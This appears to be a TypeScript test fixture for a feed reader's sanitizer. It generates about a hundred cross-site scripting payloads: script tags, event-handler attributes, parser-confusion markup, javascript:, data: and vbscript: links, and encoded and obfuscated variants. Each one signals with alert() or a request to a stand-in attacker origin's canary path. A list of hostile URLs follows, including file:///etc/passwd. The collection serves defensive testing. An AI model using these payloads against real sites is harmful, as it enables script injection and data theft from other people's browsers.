// Attempts of a feed to run something in the reader's browser, written for this project. Each says its number by
// calling alert or by asking the attacker's site for /canary/NUMBER; where nothing stops it, it does so.

export interface XssVector {
  readonly html: string;
  /** What it takes in a page without any protection: nothing, a click, or a browser of another time. */
  readonly wakes: 'by itself' | 'on a click' | 'elsewhere';
}

/** `evil` is the origin of the attacker. */
export function xssVectors(evil: string): readonly XssVector[] {
  const byItself = families.byItself.map((make) => ({ make, wakes: 'by itself' as const }));
  const onClick = families.onClick.map((make) => ({ make, wakes: 'on a click' as const }));
  const elsewhere = families.elsewhere.map((make) => ({ make, wakes: 'elsewhere' as const }));
  return [...byItself, ...onClick, ...elsewhere].map(({ make, wakes }, n) => ({
    html: make(`alert(${n})`, `${evil}/canary/${n}`),
    wakes,
  }));
}

type Make = (run: string, canary: string) => string;

const encoded = (text: string) => [...text].map((letter) => `&#${letter.charCodeAt(0)};`).join('');
const hex = (text: string) =>
  [...text].map((letter) => `\\x${letter.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const base64 = (text: string) => Buffer.from(text).toString('base64');

const families: Record<'byItself' | 'onClick' | 'elsewhere', Make[]> = {
  byItself: [
    // Scripts, plain and disguised.
    (run) => `<script>${run}</script>`,
    (_, canary) => `<script src="${canary}"></script>`,
    (run) => `<ScRiPt\n type="text/javascript"\t>${run}</sCrIpT >`,
    (run) => `<script type="module">${run}</script>`,
    (run) => `</title></textarea></style></noscript></template></script><script>${run}</script>`,
    (run) => `"><script>${run}</script><i a="`,
    (run) => `'><script>${run}</script><i a='`,
    (run) => `--><script>${run}</script><!--`,
    (run) => `<script>eval(atob('${base64(run)}'))</script>`,
    (run) => `<script>[].constructor.constructor('${hex(run)}')()</script>`,
    (run) => `<script>setTimeout(\`${run}\`)</script>`,
    (run) => `<script>location = 'javascript:${hex(run)}'</script>`,
    (run) => `<svg><script>${encoded(run)}</script></svg>`,
    (_, canary) => `<svg><script href="${canary}"></script></svg>`,
    (run) => `<script>document.write('<img src=// onerror=${run}>')</script>`,
    (_, canary) => `<script>import('${canary}')</script>`,
    (_, canary) => `<script>navigator.sendBeacon('${canary}')</script>`,
    // Elements that call something when they load, fail or appear.
    (run) => `<img src=// onerror=${run}>`,
    (run) => `<img src="//" onerror="${encoded(run)}">`,
    (run) => `<IMG/SRC=//\nONERROR\n=\n${run}>`,
    (run) => `<img src=// oNeRrOr='${run}'//>`,
    (run) => `<img alt="<img src=x" src=// onerror="${run}">`,
    (run) =>
      `<img src=// onerror="this[String.fromCharCode(116)+'itle'];top['al'+'ert'](${run.slice(6, -1)})">`,
    (run) => `<img srcset="// 1x" onerror=${run}>`,
    (run) => `<picture><source srcset="//"><img onerror=${run} src=//></picture>`,
    (run) => `<video><source onerror=${run} src=//></video>`,
    (run) => `<video src=// onerror=${run}></video>`,
    (run) => `<audio src=// onerror=${run}></audio>`,
    (run) => `<svg onload=${run}>`,
    (run) => `<svg/onload=${run}//>`,
    (run) => `<svg><image href=// onerror=${run} /></svg>`,
    (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
    (run) => `<svg><set onbegin=${run} attributeName=x dur=1s></svg>`,
    (run) => `<details open ontoggle=${run}><summary>x</summary></details>`,
    (run) => `<input autofocus onfocus=${run}>`,
    (run) => `<p tabindex=0 autofocus onfocus=${run}>x</p>`,
    (run) => `<style>@keyframes q{}</style><p style="animation:q 1s" onanimationstart=${run}>x</p>`,
    (run) => `<style onload=${run}></style>`,
    (run) => `<body onload=${run}>`,
    (run) => `<body onpageshow=${run}>`,
    (run) => `<link rel=stylesheet href="data:text/css,a" onload=${run}>`,
    (run) => `<object data="data:text/html,x" onload=${run}></object>`,
    (run) => `<iframe onload=${run}></iframe>`,
    // Documents within the document.
    (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    (run) => `<iframe srcdoc='${encoded(`<img src=// onerror=parent.${run}>`)}'></iframe>`,
    (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
    (run) => `<iframe src="java&#9;script:parent.${run}"></iframe>`,
    (_, canary) => `<iframe src="${canary}"></iframe>`,
    (_, canary) =>
      `<iframe src="data:text/html;base64,${base64(`<script src='${canary}'></script>`)}"></iframe>`,
    (_, canary) => `<embed src="${canary}">`,
    (_, canary) => `<object data="${canary}"></object>`,
    // Things that are fetched, or that lead the reader away.
    (_, canary) => `<link rel=stylesheet href="${canary}">`,
    (_, canary) => `<style>@import "${canary}";</style>`,
    (_, canary) => `<p style="background:url(${canary})">x</p>`,
    (_, canary) => `<style>p{background:url(${canary})}</style><p>x</p>`,
    (_, canary) => `<link rel=prefetch href="${canary}">`,
    (_, canary) => `<link rel=preload as=script href="${canary}">`,
    (_, canary) => `<link rel=modulepreload href="${canary}">`,
    (_, canary) => `<meta http-equiv=refresh content="0;url=${canary}">`,
    (_, canary) => `<base href="${canary}/"><script src="x.js"></script>`,
    (_, canary) => `<svg><use href="${canary}#x"></use><image href="${canary}"/></svg>`,
    // Markup that is something else when it is read a second time.
    (run) =>
      `<noscript><p title="</noscript><img src=// onerror=${run}>"></noscript><img src=// onerror=${run}>`,
    (run) => `<svg><style><img src=// onerror=${run}></style></svg>`,
    (run) => `<table><tr><td><svg><desc><td><img src=// onerror=${run}></desc></svg></table>`,
    (run) => `<select><option><img src=// onerror=${run}></select><img src=// onerror=${run}>`,
    (run) => `<!--><img src=// onerror=${run}>-->`,
    (run) => `<![CDATA[><img src=// onerror=${run}>]]>`,
    (run) => `<?x ><img src=// onerror=${run}>?>`,
    (run) => `<a title="a\u0000b"><img src=// onerror=${run}></a>`,
  ],
  onClick: [
    (run) => `<a href="javascript:${run}">x</a>`,
    (run) => `<a href=" \u0001 JaVaScRiPt:${run}">x</a>`,
    (run) => `<a href="java&Tab;scr&NewLine;ipt&colon;${run}">x</a>`,
    (run) => `<a href="${encoded(`javascript:${run}`)}">x</a>`,
    (run) => `<a href="javascript://example.org/%0a${run}">x</a>`,
    (run) => `<a onclick=${run}>x</a>`,
    (run) => `<svg><a href="javascript:${run}"><text y=20>x</text></a></svg>`,
    (run) => `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
    (run) => `<math><mtext><a href="javascript:${run}">x</a></mtext></math>`,
    (run) => `<form action="javascript:${run}"><button>x</button></form>`,
    (run) => `<form><button formaction="javascript:${run}">x</button></form>`,
    (_, canary) => `<form action="${canary}"><button>x</button></form>`,
    (_, canary) => `<a href="#x" ping="${canary}">x</a>`,
    (run) => `<button onclick=${run}>x</button>`,
    (run) => `<label onclick=${run}>x</label>`,
  ],
  elsewhere: [
    (run) =>
      `<math><mtext><table><mglyph><style><img src=// onerror=${run}></style></mglyph></table></mtext></math>`,
    (run) => `<form><math><mtext></form><form><mglyph><style></math><img src=// onerror=${run}>`,
    (run) => `<img src="javascript:${run}">`,
    (run) => `<a href="vbscript:${run}">x</a>`,
    (run) => `<p style="width:expression(${run})">x</p>`,
    (run) => `<table background="javascript:${run}"><tr><td>x</td></tr></table>`,
    (run) => `<a href="data:text/html,<script>${run}</script>">x</a>`,
    (_, canary) => `<link rel=import href="${canary}">`,
    (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    (run) => `{{constructor.constructor('${run}')()}}\${${run}}#{${run}}<%= ${run} %>`,
    (run) => `<template><script>${run}</script></template>`,
    (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
    (run) => `<p id=app name=cookie class="toast" onmouseover=${run}>x</p>`,
  ],
};

/** Addresses that are none, for a link, an enclosure or a place to move to. */
export function xssAddresses(evil: string): readonly string[] {
  return [
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'javascript://example.org/%0aalert(1)',
    'javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'vbscript:alert(1)',
    'blob:http://example.org/1',
    'file:///etc/passwd',
    `${evil}/"onmouseover="alert(1)`,
    `${evil}/'onmouseover='alert(1)`,
    `${evil}/><script>alert(1)</script>`,
    evil.replace('//', '//user:javascript:alert(1)@'),
    `//${evil.replace(/^https?:\/\//, '')}/posts/1`,
    'view-source:javascript:alert(1)',
    'feed:javascript:alert(1)',
  ];
}
